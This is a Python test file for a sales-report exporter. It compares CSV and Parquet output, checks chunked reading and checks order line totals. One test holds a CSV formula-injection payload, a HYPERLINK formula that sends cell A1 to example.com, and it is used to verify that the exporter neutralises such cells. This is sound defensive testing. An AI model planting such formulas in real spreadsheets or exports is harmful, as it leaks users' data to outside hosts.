"""The forms of a report: they say the same, and none of them does anything in a spreadsheet."""

import csv
import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import IO, Any

import pytest
from arro3.io import read_parquet
from hypothesis import given
from hypothesis import strategies as st

from cdc.ids import new_id
from consumers.reports import formats
from consumers.reports.formats import COLUMNS, harmless, to_csv, to_parquet
from consumers.reports.rows import Row
from consumers.reports.sales import line_amounts
from schemas.messages.orders import OrderCreated, OrderLine
from tailrace import sample_of

COUNTS = st.integers(0, 2**63 - 1)
ROWS = st.builds(
    lambda day, counts, **found: Row.of(
        day, found | dict(zip(("placed", "confirmed", "cancelled"), counts, strict=True))
    ),
    st.dates(),
    st.tuples(COUNTS, COUNTS, COUNTS),
    currency=st.sampled_from(["EUR", "JPY"]),
    sku=st.none() | st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1),
    reasons=st.none() | st.dictionaries(st.text(st.characters(codec="utf-8")), st.integers(0, 99)),
    revenue=st.none() | st.decimals(0, 10**23, places=4),
    refunds=st.none() | st.decimals(0, 10**23, places=4),
)


def lines_of(rows: list[Row]) -> IO[bytes]:
    return io.BytesIO(b"".join(row.to_line() for row in rows))


def written(to: Callable[[IO[bytes], IO[bytes]], None], rows: list[Row]) -> io.BytesIO:
    out = io.BytesIO()
    to(lines_of(rows), out)
    out.seek(0)
    return out


def of_csv(rows: list[Row]) -> list[dict[str, Any]]:
    return list(csv.DictReader(io.StringIO(written(to_csv, rows).read().decode(), newline="")))


def of_parquet(rows: list[Row]) -> list[dict[str, Any]]:
    table: Any = read_parquet(written(to_parquet, rows)).read_all()
    columns = {name: [each.as_py() for each in table.column(name)] for name in table.column_names}
    return [dict(zip(columns, row, strict=True)) for row in zip(*columns.values(), strict=True)]


@given(st.lists(ROWS, max_size=20))
def test_csv_and_parquet_say_the_same(rows: list[Row]) -> None:
    for in_csv, in_parquet, row in zip(of_csv(rows), of_parquet(rows), rows, strict=True):
        assert {name: str(value) for name, value in in_parquet.items() if name != "sku"} == {
            name: value for name, value in in_csv.items() if name != "sku"
        }
        assert in_parquet["sku"] == row.sku
        assert in_csv["sku"] == (harmless(row.sku) or "")
        assert type(in_parquet["day"]) is date
        assert Decimal(in_csv["revenue"]) == Decimal(row.revenue)


@pytest.mark.parametrize("read", [of_csv, of_parquet])
def test_a_report_of_nothing_can_be_read(read: Callable[[list[Row]], list[dict[str, Any]]]) -> None:
    assert read([]) == []
    assert written(to_csv, []).read().decode() == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"])
def test_no_cell_is_a_formula(begin: str) -> None:
    sku = f'{begin}HYPERLINK("http://example.com?"&A1)'
    [row] = of_csv([Row.of(date(2026, 1, 1), found(sku=sku))])
    assert row["sku"] == f"'{sku}"
    assert not any(value.startswith(formats._FORMULAS) for value in row.values())


def test_what_is_no_formula_stays_as_it_is() -> None:
    assert [harmless(each) for each in ("a=b", "'=1", "", None, "büch")] == [
        "a=b",
        "'=1",
        "",
        None,
        "büch",
    ]


def test_rows_are_read_as_they_are_written() -> None:
    asked = list[int]()

    class Lines(io.BytesIO):
        def read(self, size: int | None = -1, /) -> bytes:
            asked.append(-1 if size is None else size)
            return super().read(size)

    line = Row.of(date(2026, 1, 1), found()).to_line()
    lines = Lines(line * 50_000)
    out = io.BytesIO()
    to_parquet(lines, out)
    out.seek(0)
    assert read_parquet(out).read_all().num_rows == 50_000
    assert max(asked) < 2**20
    assert min(asked) > 0


def test_lines_come_to_the_total_of_their_order() -> None:
    order = sample_of(
        OrderCreated,
        order_id=new_id(),
        lines=(
            line("a", 3, "9.99", "2.10"),
            line("b", 1_000_000, "0.0001", None),
            line("a", 1, "0.02", "0"),
        ),
        total=Decimal("132.09"),
    )
    amounts = line_amounts(order)
    assert amounts == {"a": Decimal("32.09"), "b": Decimal(100)}
    assert sum(amounts.values()) == order.total


def line(sku: str, quantity: int, price: str, tax: str | None) -> OrderLine:
    return OrderLine(
        sku=sku,
        quantity=quantity,
        unit_price=Decimal(price),
        tax_rate=None if tax is None else Decimal("0.07"),
        tax=None if tax is None else Decimal(tax),
        digital=False,
    )


def found(**changes: Any) -> dict[str, Any]:
    none = dict.fromkeys(("placed", "confirmed", "cancelled", "reasons", "revenue", "refunds"))
    return none | {"currency": "EUR", "sku": None} | changes
